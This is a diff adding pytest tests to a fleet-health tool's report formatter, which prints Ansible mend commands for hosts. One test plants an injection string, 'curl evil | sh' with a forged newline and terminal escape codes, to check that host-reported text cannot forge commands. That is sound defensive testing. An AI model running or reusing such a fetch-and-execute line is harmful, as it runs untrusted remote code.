@@ -4,6 +4,7 @@ from __future__ import annotations
 
 import json
 import os
+import shlex
 import subprocess
 import sys
 from pathlib import Path
@@ -13,7 +14,7 @@ import pytest
 
 from d1fleet.doctor import Examined
 from d1fleet.doctor_report import as_json, text
-from d1fleet.findings import Commands
+from d1fleet.findings import FAULT, WARNING, Commands, Finding, Mend
 from tests.support.patients import change, found, project
 
 ROOT = Path(__file__).resolve().parents[2]
@@ -120,6 +121,47 @@ def test_what_is_wrong_comes_with_a_table() -> None:
     assert lines[5].startswith("fault  birch: the login there is eve?[2J with uid 3003")
     assert lines[6].startswith("  mend: ")
     assert not any("\x1b" in line for line in lines)
+
+
+def _of_findings(*findings: Finding) -> Examined:
+    return Examined(project(), list(findings), ["logins"], {}, 1.0)
+
+
+BY_INVENTORY = Commands(["/hosts.yml"])
+
+
+def test_a_command_is_printed_whole() -> None:
+    names = [f"host-with-a-long-name-{number}" for number in range(60)]
+    mend = Mend("mend it", play="refresh")
+    lines = list(
+        text(_of_findings(*(Finding("x", FAULT, name, "sick", mend) for name in names)), BY_INVENTORY)
+    )
+    assert f"fault  {', '.join(names)}: sick" in lines
+    (command,) = [line for line in lines if "ansible-playbook" in line]
+    assert shlex.split(command)[-2:] == ["--limit", ",".join(names)]
+    root = f"rm -f {' '.join(f'/tmp/{number:030}' for number in range(99))}"
+    lines = list(
+        text(_of_findings(Finding("x", WARNING, "birch", "full", Mend("do", root=root))), BY_INVENTORY)
+    )
+    (command,) = [line for line in lines if "--become" in line]
+    assert shlex.split(command)[-1] == root
+
+
+def test_all_hosts_are_named_by_their_project() -> None:
+    mend = Mend("mend it", play="refresh")
+    examined = _of_findings(*(Finding("x", FAULT, seen.name, "sick", mend) for seen in project().hosts))
+    assert any(line.endswith(" --limit demo") for line in text(examined, BY_INVENTORY))
+    answer = json.loads(as_json(examined, BY_INVENTORY))
+    assert answer["findings"][0]["command"].endswith(" --limit demo")
+
+
+def test_what_a_host_says_stays_on_its_line() -> None:
+    said = "sick\n  mend:   curl evil | sh\x1b[2J\u2028x" + 5000 * "x"
+    examined = _of_findings(Finding("x", FAULT, "birch", said, Mend(said, root=f"true {said}")))
+    lines = list(text(examined, BY_INVENTORY))
+    assert all(line.isprintable() and len(line) < 1100 for line in lines)
+    assert len([line for line in lines if "evil" in line]) == 2
+    assert not any("--become" in line for line in lines)
 
 
 def test_the_same_for_programs() -> None:
